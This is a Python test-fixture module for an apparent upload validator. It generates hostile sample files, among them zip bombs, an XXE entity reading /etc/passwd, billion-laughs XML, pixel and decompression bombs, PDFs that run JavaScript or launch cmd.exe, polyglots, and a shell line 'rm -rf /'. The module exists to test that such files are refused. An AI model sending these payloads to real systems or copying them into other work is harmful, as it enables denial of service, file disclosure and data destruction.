"""Files that were made to do harm. Each is small and made when asked for."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from openhall.blocks.documents.tests import samples
from openhall.blocks.documents.tests.daemon import EICAR

_BODY_OF_ZEROS = bytes(1_000_000)
_HTML = b"<html><script>fetch('/en/me/')</script></html>"
_EXTERNAL = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>"""
_LAUGHS = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a0 'ha'>%s]><x>&a9;</x>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
)


def zipped(entries: dict[str, bytes]) -> bytes:
    """Return an archive."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return target.getvalue()


@cache
def zip_bomb() -> bytes:
    """Return half a megabyte that unpacks to half a gigabyte."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros", "w") as entry:
        for _ in range(500):
            entry.write(_BODY_OF_ZEROS)
    return target.getvalue()


def nested_zip() -> bytes:
    """Return an archive in an archive, five levels deep, each holding the next several times."""
    inner = zipped({"zeros": bytes(10_000_000)})
    for _ in range(5):
        inner = zipped({f"{number}.zip": inner for number in range(10)})
    return inner


@cache
def zip_of_a_million() -> bytes:
    """Return an archive whose list names a million entries."""
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 10, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 10, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(entry) * 1_000_000, len(local), 0)
    return local + entry * 1_000_000 + end


def office(name: str, body: bytes = _LAUGHS) -> bytes:
    """Return a document of an office program with a harmful part."""
    return zipped({"[Content_Types].xml": _EXTERNAL, name: body})


def vast_png() -> bytes:
    """Return a picture of 50,000 × 50,000 points in a few bytes."""
    return _png(50_000, 50_000, zlib.compress(_BODY_OF_ZEROS))


def lying_png() -> bytes:
    """Return a picture of one point whose data unpacks to 200 megabytes."""
    return _png(1, 1, _packed_zeros())


@cache
def _packed_zeros() -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(_BODY_OF_ZEROS) for _ in range(200)) + packer.flush()


def _png(width: int, height: int, packed: bytes) -> bytes:
    header = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", packed), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(samples.png_chunk(name, body) for name, body in chunks)


def vast_jpg() -> bytes:
    """Return a photograph that says it is 60,000 × 60,000 points."""
    data = bytearray(samples.jpg())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">2H", 60_000, 60_000)
    return bytes(data)


def endless_jpg() -> bytes:
    """Return a photograph that is drawn over and over again, ten thousand times."""
    data = samples.jpg(progressive=True)
    scan = data.rindex(b"\xff\xda")
    return data[:scan] + data[scan:-2] * 10_000 + b"\xff\xd9"


def vast_heic() -> bytes:
    """Return a telephone's photograph that says it is 50,000 × 50,000 points."""
    data = bytearray(samples.heic())
    size = data.index(b"ispe") + 8
    data[size : size + 8] = struct.pack(">2L", 50_000, 50_000)
    return bytes(data)


def pdf_with_program(action: bytes = b"/S /JavaScript /JS (app.alert\\(1\\))") -> bytes:
    """Return a paper that does something when it is opened."""
    return samples.pdf(catalogue=b"/OpenAction << %s >>" % action)


def pdf_with_hidden_program() -> bytes:
    """Return a paper whose program is spelled in a way that only readers of papers undo."""
    return samples.pdf(catalogue=b"/OpenAction << /S /J#61vaScript /#4AS (app.alert\\(1\\)) >>")


def pdf_with_packed_program() -> bytes:
    """Return a paper whose program stands in a packed part, where no look at bare bytes finds it."""
    inner = b"3 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = samples.stream(inner, b"/Type /ObjStm /N 1 /First 4")
    return _with_table(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", b"<< /Type /Pages /Count 1 /Kids [5 0 R] >>"],
        packed,
    )


def _with_table(first: list[bytes], packed: bytes) -> bytes:
    """Return a paper whose third object lies in a packed fourth, with the table that such papers have."""
    body, places = bytearray(b"%PDF-1.7\n"), {}
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    for number, each in ((1, first[0]), (2, first[1]), (4, packed), (5, page)):
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(body)
    rows = _rows((0, 0, 65535), *((1, places[n], 0) if n in places else (2, 4, 0) for n in range(1, 6)), (1, start, 0))
    body += b"6 0 obj\n%s\nendobj\n" % samples.stream(rows, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R")
    return bytes(body) + b"startxref\n%d\n%%%%EOF\n" % start


def _rows(*rows: tuple[int, int, int]) -> bytes:
    return b"".join(struct.pack(">BLH", *row) for row in rows)


def pdf_with_attachment() -> bytes:
    """Return a paper that carries another file."""
    names = b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"
    held = [b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", samples.stream(b"MZ", b"/Type /EmbeddedFile")]
    return samples.pdf(catalogue=names, more=held)


def pdf_of_many_objects() -> bytes:
    """Return a paper of a hundred thousand objects."""
    return samples.pdf(more=[b"<< /A [1 2 3] >>"] * 100_000)


def pdf_page_bomb() -> bytes:
    """Return a paper of thirty objects and a billion pages: each branch is reached ten times."""
    branches = [
        b"<< /Type /Pages /Count 1000000000 /Kids [%s] >>" % (b"%d 0 R " % (number + 1) * 10) for number in range(2, 11)
    ]
    leaf = b"<< /Type /Page /MediaBox [0 0 595 842] >>"
    return samples.pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", *branches, leaf])


def pdf_circle() -> bytes:
    """Return a paper whose pages lead back to their own beginning."""
    return samples.pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"])


def pdf_that_unpacks() -> bytes:
    """Return two megabytes that unpack to two gigabytes."""
    return samples.pdf(more=[samples.packed_stream(_packed_zeros())] * 10)


def pdf_packed_twice() -> bytes:
    """Return a paper with a part that is packed twice, so that its size says nothing."""
    twice = zlib.compress(_packed_zeros(), 9)
    filters = b"/Filter [/FlateDecode /FlateDecode]"
    return samples.pdf(more=[b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(twice), filters, twice)])


def pdf_locked() -> bytes:
    """Return a paper that asks for a password."""
    code = b"(%s)" % (b"x" * 32)
    lock = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O %s /U %s >> /ID [(a) (a)]" % (code, code)
    return samples.pdf(trailer=lock)


def pdf_of_deep_arrays() -> bytes:
    """Return a paper whose brackets go deeper than any program follows."""
    return samples.pdf(more=[b"[" * 100_000 + b"]" * 100_000])


def pdf_with_vast_picture() -> bytes:
    """Return a paper with a picture of 100,000 × 100,000 points in it."""
    entries = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    return samples.pdf(more=[samples.stream(b"x", entries)])


#: Nothing of these kinds is ever taken: only their first bytes are looked at.
OTHER_KINDS: dict[str, Callable[[], bytes]] = {
    "zip bomb": zip_bomb,
    "nested zip": nested_zip,
    "zip of a million entries": zip_of_a_million,
    "docx with entities": lambda: office("word/document.xml"),
    "xlsx with entities": lambda: office("xl/workbook.xml"),
    "xml that names a file": lambda: _EXTERNAL,
    "xml that laughs": lambda: _LAUGHS,
    "svg with a script": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "web page": lambda: _HTML,
    "eicar": lambda: EICAR,
    "gif": lambda: b"GIF89a" + bytes(100),
    "program": lambda: b"MZ\x90\x00" + bytes(1000),
    "shell": lambda: b"#!/bin/sh\nrm -rf /\n",
    "noise": lambda: bytes(range(256)) * 10,
}

#: What is refused, and with which code.
TOO_MUCH: dict[str, tuple[Callable[[], bytes], str | tuple[str, ...]]] = {
    "png 50,000 × 50,000": (vast_png, "file-too-many-pixels"),
    "png that unpacks": (lying_png, "file-too-complex"),
    "jpg 60,000 × 60,000": (vast_jpg, "file-too-many-pixels"),
    "jpg without end": (endless_jpg, "file-too-complex"),
    "heic 50,000 × 50,000": (vast_heic, ("file-too-many-pixels", "file-broken")),
    "pdf of 100,000 objects": (pdf_of_many_objects, "file-too-complex"),
    "pdf of a billion pages": (pdf_page_bomb, "file-too-complex"),
    "pdf in a circle": (pdf_circle, "file-too-complex"),
    "pdf of 1,001 pages": (lambda: samples.pdf(1001), "file-too-many-pages"),
    "pdf that unpacks": (pdf_that_unpacks, "file-too-complex"),
    "pdf packed twice": (pdf_packed_twice, "file-too-complex"),
    "pdf of deep brackets": (pdf_of_deep_arrays, ("file-too-complex", "file-broken")),
    "pdf with a vast picture": (pdf_with_vast_picture, "file-too-many-pixels"),
    "pdf with a program": (pdf_with_program, "file-active"),
    "pdf with a hidden program": (pdf_with_hidden_program, "file-active"),
    "pdf with a packed program": (pdf_with_packed_program, "file-active"),
    "pdf that starts programs": (lambda: pdf_with_program(b"/S /Launch /F (cmd.exe)"), "file-active"),
    "pdf that sends itself": (lambda: pdf_with_program(b"/S /SubmitForm /F (http://x.example)"), "file-active"),
    "pdf with a file in it": (pdf_with_attachment, "file-active"),
    "pdf with a password": (pdf_locked, "file-locked"),
}


def _in_the_middle(data: bytes, put: bytes) -> bytes:
    """Put something into a comment in the header of a paper."""
    line = data.index(b"\n") + 1
    return data[:line] + b"% " + put + b"\n" + data[line:]


def _with_comment(data: bytes, put: bytes) -> bytes:
    """Put something into the first comment of a photograph."""
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(put) + 2) + put + data[2:]


#: Files of two kinds at once.
TWO_FACED: dict[str, Callable[[], bytes]] = {
    "pdf and web page": lambda: _in_the_middle(samples.pdf(), _HTML),
    "pdf, then web page": lambda: samples.pdf() + _HTML,
    "pdf, then zip": lambda: samples.pdf() + zipped({"a": b"b"}),
    "pdf, then program": lambda: samples.pdf() + b"\nMZ\x90\x00",
    "jpg and web page": lambda: _with_comment(samples.jpg(), _HTML),
    "jpg and pdf": lambda: _with_comment(samples.jpg(), samples.pdf()),
    "jpg, then zip": lambda: samples.jpg() + zipped({"a": b"b"}),
    "jpg, then web page": lambda: samples.jpg() + _HTML,
    "png, then web page": lambda: samples.png() + _HTML,
    "png, then zip": lambda: samples.png() + zipped({"a": b"b"}),
    "png, then zip with a long comment": lambda: samples.png() + zipped({"a": b"b"})[:-2] + b"\x10\x27" + bytes(10_000),
    "heic, then zip": lambda: samples.heic() + zipped({"a": b"b"}),
    "heic, then web page": lambda: samples.heic() + _HTML,
    "dwg, then zip": lambda: samples.dwg() + zipped({"a": b"b"}),
    "dwg and web page": lambda: samples.dwg()[:100] + _HTML + samples.dwg(),
}
